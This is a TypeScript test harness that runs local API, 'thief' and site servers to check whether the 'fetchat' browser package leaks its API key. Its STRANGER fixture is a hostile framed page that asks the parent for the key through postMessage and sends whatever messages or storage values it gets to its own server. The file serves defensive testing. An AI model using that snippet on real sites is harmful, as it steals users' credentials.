import { createServer, type IncomingMessage, type RequestListener, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { build } from "esbuild";
import { INSTALLED, ROOT } from "../../scripts/lib/paths.ts";
import { ACTS, OPEN } from "./scenarios.ts";

/** A request, with everything that could contain a key. */
export interface Seen {
  readonly url: string;
  readonly authorization: string | undefined;
  /** Address, headers except `authorization`, and body. */
  readonly rest: string;
  readonly whole: string;
}

/** A server and the requests that it received. */
export interface Watched {
  /** `http://127.0.0.1:PORT` */
  readonly origin: string;
  readonly seen: Seen[];
  close(): void;
}

/** The key's own API, another server, and the page's server. */
export interface Servers {
  readonly api: Watched;
  readonly thief: Watched;
  readonly site: Watched;
  close(): void;
}

/** Starts all three servers. `/v1/ACT/…` of the API performs the act. */
export async function startServers(): Promise<Servers> {
  const script = await bundle();
  const thief = await watched((_request, response) => {
    response.writeHead(200, { ...OPEN, "content-type": "text/html" }).end(STRANGER);
  });
  const counts = new Map<string, number>();
  const api = await watched((request, response) => {
    const name = decodeURIComponent(request.url?.split("/")[2] ?? "");
    if (request.method === "OPTIONS") return void response.writeHead(204, OPEN).end();
    const before = counts.get(request.url ?? "") ?? 0;
    counts.set(request.url ?? "", before + 1);
    ACTS[name.replace(/ #.*/, "")]?.(
      response,
      { key: request.headers.authorization?.slice(7) ?? "", thief: thief.origin, before },
      request,
    );
  });
  const site = await watched((request, response) => {
    if (request.url === "/leaks.js")
      return void response.writeHead(200, { "content-type": "text/javascript" }).end(script);
    response.writeHead(200, { "content-type": "text/html" }).end(request.url === "/" ? PAGE : "<!doctype html>");
  });
  const all = [api, thief, site];
  return { api, thief, site, close: () => all.forEach((one) => one.close()) };
}

const PAGE =
  '<!doctype html><link rel="icon" href="data:,"><title>key</title><script type="module" src="/leaks.js"></script>';

/** A foreign page in a frame, which reports the messages that it receives and sends requests. */
const STRANGER = `<!doctype html><script>
  const tell = (what) => fetch("/heard", { method: "POST", body: what });
  addEventListener("message", (event) => tell("message " + JSON.stringify(event.data)));
  addEventListener("storage", (event) => tell("storage " + event.newValue));
  for (const data of [{ type: "fetchat", baseURL: location.origin + "/v1" }, { apiKey: null, get: "key" }, "fetchat.key"]) parent.postMessage(data, "*");
  tell("here");
</script>`;

/** Bundles the page's program with the built package. */
async function bundle(): Promise<string> {
  const contents = [
    `import { start } from ${JSON.stringify(`${ROOT}/test/key-leaks/page.ts`)};`,
    'import * as fetchat from "fetchat/browser";',
    'import { uploadFile } from "fetchat/media";',
    'import { streamResponse } from "fetchat/responses";',
    "start({ ...fetchat, streamResponse, uploadFile });",
  ].join("\n");
  const built = await build({
    stdin: { contents, resolveDir: INSTALLED },
    bundle: true,
    write: false,
    format: "esm",
    platform: "browser",
    target: "es2022",
    logLevel: "silent",
  });
  return built.outputFiles[0]?.text ?? "";
}

async function watched(answer: RequestListener): Promise<Watched> {
  const seen: Seen[] = [];
  const server: Server = createServer((request, response) => {
    void bodyOf(request).then((body) => {
      const { authorization, ...headers } = request.headers;
      const rest = `${request.method ?? ""} ${request.url ?? ""} ${JSON.stringify(headers)} ${body}`;
      if (request.method !== "OPTIONS")
        seen.push({ url: request.url ?? "", authorization, rest, whole: `${rest} ${authorization ?? ""}` });
      answer(request, response);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const close = (): void => {
    server.close();
    server.closeAllConnections();
  };
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, close };
}

async function bodyOf(request: IncomingMessage): Promise<string> {
  let text = "";
  for await (const piece of request.setEncoding("latin1")) text += String(piece);
  return text;
}
